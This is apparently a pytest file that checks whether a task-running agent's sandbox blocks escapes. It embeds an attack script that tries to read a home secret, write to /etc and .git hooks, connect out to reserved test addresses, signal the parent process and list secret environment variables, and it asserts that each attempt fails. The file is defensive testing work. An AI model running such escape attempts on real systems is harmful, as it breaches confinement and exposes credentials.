"""Row 24: writes outside the shadow, the real ``.git`` and the network are out of reach, by the operating system."""

from __future__ import annotations

import json
import socket
import threading

import pytest

from nightcrew.testing.hermetic import Hermetic

pytestmark = pytest.mark.needs_userns

ATTACK = r"""
import json, os, pathlib, socket, subprocess, sys
home, repo, state, port, name = sys.argv[1:]
found = {}
def attempt(what, action):
    try:
        found[what] = f"done: {action()!r}"
    except BaseException as error:
        found[what] = f"refused: {type(error).__name__}"
def write(path):
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    return pathlib.Path(path).write_text("evil")
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        s.connect(address)
        s.send(b"evil")
        return "connected"
attempt("read home secret", lambda: pathlib.Path(home + "/secret").read_text())
attempt("read journal", lambda: os.listdir(state))
attempt("write home", lambda: write(home + "/evil"))
attempt("write state", lambda: write(state + "/evil"))
attempt("write etc", lambda: write("/etc/evil"))
attempt("write usr", lambda: write("/usr/evil"))
attempt("write tmp", lambda: write("/tmp/evil-" + name))
attempt("write repository", lambda: write(repo + "/inside.txt"))
attempt("write git config", lambda: write(repo + "/.git/config.evil"))
attempt("write git hook", lambda: write(repo + "/.git/hooks/pre-commit"))
attempt("connect to the host", lambda: connect(socket.AF_INET, ("127.0.0.1", int(port))))
attempt("connect out", lambda: connect(socket.AF_INET, ("192.0.2.1", 80)))
attempt("connect out v6", lambda: connect(socket.AF_INET6, ("2001:db8::1", 80)))
attempt("abstract socket", lambda: connect(socket.AF_UNIX, "\0" + name))
attempt("unix socket", lambda: connect(socket.AF_UNIX, home + "/socket"))
attempt("mount", lambda: subprocess.run(["mount", "-t", "tmpfs", "x", "/mnt"], check=True, capture_output=True).returncode)
attempt("user namespace", lambda: subprocess.run(["unshare", "-Ur", "true"], check=True, capture_output=True).returncode)
attempt("kill the parent", lambda: [os.kill(int(p), 0) for p in os.listdir("/proc") if p.isdigit() and b"--yes" in pathlib.Path(f"/proc/{p}/cmdline").read_bytes()])
os.symlink(home + "/secret", "leaving")
attempt("environment", lambda: sorted(k for k in os.environ if "SECRET" in k or "XDG" in k or "DATABASE" in k))
pathlib.Path("report.json").write_text(json.dumps(found, indent=1))
"""
REFUSED = [
    "write home", "write state", "write etc", "write usr", "read home secret", "read journal", "connect to the host",
    "connect out", "connect out v6", "abstract socket", "unix socket", "mount", "user namespace",
]  # fmt: skip


def listen(crew: Hermetic, name: str) -> tuple[int, list[bytes], list[socket.socket]]:
    """Listen on the host in three ways; whatever arrives is noted."""
    heard: list[bytes] = []
    sockets = []
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, f"\0{name}"), (socket.AF_UNIX, str(crew.home / "socket")),
    ):  # fmt: skip
        server = socket.socket(family, socket.SOCK_STREAM)
        server.bind(address)
        server.listen()
        sockets.append(server)

        def hear(server: socket.socket = server) -> None:
            try:
                heard.append(server.accept()[0].recv(10))
            except OSError:
                return  # closed at the end of the test

        threading.Thread(target=hear, daemon=True).start()
    return sockets[0].getsockname()[1], heard, sockets


def test_24_nothing_outside_is_in_reach(crew: Hermetic, token: str) -> None:
    name = f"nc-{token}"
    (crew.home / "secret").write_text("do not read")
    port, heard, sockets = listen(crew, name)
    crew.write({"attack.py": ATTACK})
    crew.commit("attack")
    config = (crew.repo / ".git/config").read_bytes()
    hooks = sorted(path.name for path in (crew.repo / ".git/hooks").iterdir())
    command = f"python3 attack.py {crew.home} {crew.repo} {crew.state} {port} {name}"
    text = f"- [ ] 1. attack\n  - Run: {command}\n  - Accept: test -s report.json\n"
    done = crew.run_tasks(text, extra={"MY_SECRET_TOKEN": "x"})
    for server in sockets:
        server.close()
    patch = crew.look("diff", "R-1/T01", "--json").json["patch"]
    section = patch[patch.index("b/report.json") :]
    report = json.loads(
        "".join(
            line[1:] for line in section.splitlines() if line.startswith("+") and not line.startswith("+++")
        )
    )
    allowed = {what: report[what] for what in REFUSED if not report[what].startswith("refused")}
    # A write may be answered with a private place that vanishes with the sandbox; outside, nothing may be seen of it.
    assert set(allowed) <= {"write home", "write state"}, allowed
    assert report["write repository"].startswith("done"), "the agent could not even work"
    assert report["environment"] == "done: []"
    assert report["kill the parent"] in ("done: []", "refused: PermissionError"), report["kill the parent"]
    assert heard == []
    assert not (crew.home / "evil").exists()
    assert not (crew.state / "evil").exists()
    assert not (crew.repo / "inside.txt").exists()
    assert (crew.repo / ".git/config").read_bytes() == config
    assert not (crew.repo / ".git/config.evil").exists()
    assert sorted(path.name for path in (crew.repo / ".git/hooks").iterdir()) == hooks
    import pathlib

    for evil in ("/etc/evil", "/usr/evil", f"/tmp/evil-{name}"):
        assert not pathlib.Path(evil).exists(), evil
    assert done.code in (5, 10, 0), done
    assert crew.git("status", "--porcelain=v1") == ""


def test_24_acceptance_is_confined_too(crew: Hermetic) -> None:
    (crew.home / "secret").write_text("do not read")
    text = f"- [ ] 1. a\n  - Run: echo a > a.txt\n  - Accept: cat {crew.home}/secret\n"
    done = crew.run_tasks(text)
    assert done.code == 10, done
    assert "do not read" not in done.stdout + done.stderr
    assert not (crew.repo / "a.txt").exists()
